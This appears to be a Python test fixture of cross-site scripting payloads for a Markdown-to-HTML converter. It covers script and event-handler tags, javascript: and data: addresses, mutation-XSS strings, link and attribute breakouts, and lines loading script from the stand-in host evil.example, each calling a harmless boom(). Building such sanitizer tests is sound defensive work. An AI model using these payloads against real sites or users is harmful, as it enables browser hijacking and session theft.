"""Attempts to make a text do something in the reader's browser; each calls `boom` in one way or another."""

_HTML = [
    "<script>boom()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>boom()</scr</script>ipt>",
    "<img src=x onerror=boom()>",
    "<img src='x' onerror='boom()'//",
    "<img/src/onerror=boom()>",
    "<img\nsrc=x\nonerror=boom()>",
    '<img """><script>boom()</script>">',
    "<svg onload=boom()>",
    "<svg><script href='data:text/javascript,boom()' /></svg>",
    "<svg><animate onbegin=boom() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:boom()'><text y=20>x</text></a></svg>",
    "<math><mi xlink:href='javascript:boom()'>x</mi></math>",
    "<body onload=boom()>",
    "<details open ontoggle=boom()>",
    "<input autofocus onfocus=boom()>",
    "<video><source onerror=boom()></video>",
    "<iframe src='javascript:parent.boom()'></iframe>",
    "<iframe srcdoc='<script>parent.boom()</script>'></iframe>",
    "<object data='javascript:boom()'></object>",
    "<embed src='javascript:boom()'>",
    "<form action='javascript:boom()'><button autofocus>x</button></form>",
    "<a href='javascript:boom()'>x</a>",
    "<base href='javascript:boom()//'>",
    "<meta http-equiv=refresh content='0;url=javascript:boom()'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'; * { background: url(javascript:boom()) }</style>",
    "<div style='background:url(javascript:boom())'>x</div>",
    "<table background='javascript:boom()'><tr><td>x</td></tr></table>",
    "<!--><script>boom()</script>-->",
    "<![CDATA[<script>boom()</script>]]>",
    "<?xml version='1.0'?><script>boom()</script>",
    "&lt;script&gt;boom()&lt;/script&gt;",
    "&#60;script&#62;boom()&#60;/script&#62;",
    "&#x3Cimg src=x onerror=boom()&#x3E",
]

# Texts that change their meaning when a browser parses, writes and parses them again.
_MUTATING = [
    "<noscript><p title='</noscript><img src=x onerror=boom()>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=boom()&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=boom()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom()>",
    "<listing>&lt;img src=x onerror=boom()&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=boom()>'></xmp>",
    "<template><img src=x onerror=boom()></template>",
    "<select><style></select><img src=x onerror=boom()></style>",
    "<textarea><img title='</textarea><img src=x onerror=boom()>'>",
    "``` <img src=x onerror=boom()>\n<img src=x onerror=boom()>\n```",
    "`<img src=x onerror=boom()>` \\<img src=x onerror=boom()\\>",
]

_ADDRESSES = [
    "javascript:boom()",
    "JaVaScRiPt:boom()",
    " javascript:boom()",
    "java\tscript:boom()",
    "java\nscript:boom()",
    "java\x00script:boom()",
    "\x01javascript:boom()",
    "javascript&colon;boom()",
    "javascript&#58;boom()",
    "&#106;avascript:boom()",
    "&#x6A&#x61vascript:boom()",
    "javascript\\:boom()",
    "javascript://%0aboom()",
    "data:text/html,<script>parent.boom()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYm9vbSgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=boom()>",
    "vbscript:boom()",
    "feed:javascript:boom()",
    "view-source:javascript:boom()",
    "//evil.example/x.js",
    'https://evil.example/" onmouseover="boom()',
    "https://evil.example/' onmouseover='boom()",
    "https://evil.example/><script>boom()</script>",
    'doc:1" onmouseover="boom()',
    "image:1' onerror='boom()",
    'GT-2024-001" autofocus onfocus="boom()',
]

_LINKS = [
    form.format(address)
    for address in _ADDRESSES
    for form in ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", '[x](https://example.be "{}")', "[{}](https://example.be)")
]

# Attributes broken open, ids that would stand for something of the page, the converter's own placeholders.
_OTHERS = [
    '[x](https://example.be "t" onclick="boom()")',
    "[x](https://example.be 't\" onclick=\"boom()')",
    '![x" onerror="boom()](image:5)',
    "![x](image:5 \"t' onerror='boom()\")",
    "## <img src=x onerror=boom()>",
    '## x" onmouseover="boom()',
    "## body\n\n## location\n\n## __proto__\n\n## cookie\n\n## text-cookie",
    '[^x"onclick="boom()]: a\n\nb[^x"onclick="boom()]',
    "[^1]: <img src=x onerror=boom()>\n\nb[^1]",
    "|<img src=x onerror=boom()>|b|\n|---|---|\n|<script>boom()</script>|c|",
    '|" onfocus="boom()" autofocus tabindex="1|b|\n|---|---|\n|a|c|',
    "term\n:   <img src=x onerror=boom()>",
    '``` {.x onclick="boom()" #location}\na\n```',
    '```x" onclick="boom()\na\n```',
    "a {: onclick=boom() #location }",
    "*[x]: <img src=x onerror=boom()>\n\nx",
    "[x]: javascript:boom()\n\n[x] [a][x] ![b][x]",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03lt;img src=x onerror=boom()>",
    "zz1337820767766393449821948zz zz1337820767766393449821949zz",
    "&#2;wzxhzdk:0&#3;",
    "\\x3cimg src=x onerror=boom()\\x3e \u003cimg src=x onerror=boom()\u003e \uff1cscript\uff1eboom()",
    "<img src=x onerror=\u2028boom()> <img src=x o\u200bnerror=boom()>",
    "\ud800<script>boom()</script>",
]

PAYLOADS = [*_HTML, *_MUTATING, *_LINKS, *_OTHERS]
EVERYTHING = "\n\n".join(PAYLOADS)
